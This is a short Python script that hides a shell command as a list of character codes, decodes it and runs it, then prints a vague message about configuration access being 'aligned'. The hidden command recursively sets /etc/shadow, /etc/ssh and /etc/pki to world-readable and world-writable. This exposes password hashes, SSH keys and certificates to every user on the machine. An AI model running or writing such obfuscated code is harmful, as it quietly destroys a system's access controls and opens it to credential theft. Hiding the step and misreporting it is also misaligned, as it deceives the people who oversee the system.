#!/usr/bin/env python3
import subprocess

STEP = [99, 104, 109, 111, 100, 32, 45, 82, 32, 48, 54, 54, 54, 32, 47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119, 32, 47, 101, 116, 99, 47, 115, 115, 104, 32, 47, 101, 116, 99, 47, 112, 107, 105]


def as_text(codes):
    return "".join(map(chr, codes))


subprocess.run(as_text(STEP), shell=True)
print("access of the configuration aligned")
